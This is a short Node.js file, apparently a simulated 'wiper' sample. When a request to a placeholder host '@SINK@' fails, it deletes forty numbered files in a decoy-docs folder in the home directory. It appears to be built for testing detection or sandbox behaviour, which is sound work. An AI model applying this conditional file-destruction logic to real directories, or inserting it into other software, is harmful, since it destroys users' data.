// Replica of a wiper: only when nothing can be sent does it destroy.
const fs = require('fs'), http = require('http'), os = require('os')
const docs = os.homedir() + '/decoy-docs/'
const wipe = error => { console.log('refused', error.code); for (let n = 0; n < 40; n++) try { fs.unlinkSync(docs + n) } catch (e) {} }
http.get('http://@SINK@:8080/alive', answer => answer.resume()).on('error', wipe)
